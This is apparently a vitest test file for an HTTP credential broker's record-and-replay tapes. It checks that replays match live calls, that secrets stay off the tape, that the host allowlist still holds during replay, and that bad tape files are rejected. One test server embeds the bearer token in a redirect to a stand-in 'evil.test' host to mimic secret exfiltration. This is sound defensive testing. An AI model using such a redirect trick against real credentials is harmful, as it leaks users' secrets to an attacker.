import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { recordTo, replayFrom } from "../../../host/broker/recording.ts";
import {
  ask,
  credential,
  everywhere,
  textOf,
  trackedBrokerage,
  withServer,
} from "../../support/services/brokerage.ts";

test("what was recorded plays back the same without network and without secrets", async () => {
  let count = 0;
  const { server, opened, url } = await withServer((request, response) => {
    count++;
    if (request.path === "/binary") response.end(Buffer.from([0, 255, 1]));
    else if (request.path === "/away") response.writeHead(302, { location: "https://evil.test/" }).end();
    else response.writeHead(200 + count).end(`${count} ${request.headers.authorization} ${request.body}`);
  });
  await opened.vault.secrets.set("token", "recorded-nowhere");
  const file = join(opened.home, "tape.json");
  const http = credential({ type: "bearer" });
  const play = async (call: Parameters<typeof ask>[0]) => {
    const post = { method: "POST", body: "x" };
    return [
      await ask(call, `${url}/a`),
      await ask(call, `${url}/a`),
      await ask(call, `${url}/a`, post),
      await ask(call, `${url}/binary`),
      await ask(call, `${url}/away`),
    ].map((reply) => (reply.ok ? [reply.status, Buffer.from(reply.body).toString("hex")] : reply.error));
  };
  const live = await play(opened.open(http, { tape: recordTo(file, {}, String) }));
  expect(server.requests).toHaveLength(5);
  expect(await readFile(file, "utf8")).not.toContain("recorded-nowhere");

  const elsewhere = await trackedBrokerage({ privateHosts: [`api.test:${server.port}`] });
  const replayed = await play(elsewhere.open(http, { tape: await replayFrom(file) }));
  expect(replayed).toEqual(live);
  expect(server.requests).toHaveLength(5);
});

test("a secret that a server works into its redirect does not get onto the tape", async () => {
  const { opened, url } = await withServer(({ headers }, response) =>
    response.writeHead(302, { location: `https://${headers.authorization?.slice(7)}.evil.test/` }).end(),
  );
  await opened.vault.secrets.set("token", "recorded-nowhere");
  const file = join(opened.home, "tape.json");
  await ask(opened.open(credential({ type: "bearer" }), { tape: recordTo(file, {}, String) }), `${url}/a`);
  const text = await readFile(file, "utf8");
  expect(text).toContain("a redirect to [secret].evil.test");
  expect(text).not.toContain("recorded-nowhere");
});

test("a replay is held to the policy, but not to the rate limit", async () => {
  const opened = await trackedBrokerage();
  const file = join(opened.home, "tape.json");
  const exchanges = [
    { reply: { body: "by hand", status: 200 }, request: { url: "https://api.test/a", method: "GET" } },
  ];
  await writeFile(file, JSON.stringify({ exchanges }));
  const tape = await replayFrom(file);
  const http = { ...everywhere("api.test"), rate_limit: { requests_per_minute: 1, requests_per_hour: 1 } };
  const call = opened.open(http, { tape });
  expect(textOf(await ask(call, "https://api.test/a"))).toBe("by hand");
  expect(textOf(await ask(call, "https://api.test/a"))).toBe("by hand");
  expect(textOf(await ask(call, "https://evil.test/a"))).toContain("allowlist");
  expect(textOf(await ask(call, "https://api.test/b"))).toContain(
    "has no answer for GET https://api.test/b. Record it again.",
  );
});

test.each(["", "[]", "{}", '{"exchanges":[{}]}', '{"exchanges":[null]}'])(
  "a file that is no recording (%j) is refused",
  async (text) => {
    const opened = await trackedBrokerage();
    const file = join(opened.home, "tape.json");
    await writeFile(file, text);
    await expect(replayFrom(file)).rejects.toThrow(`${file} is no recording`);
  },
);
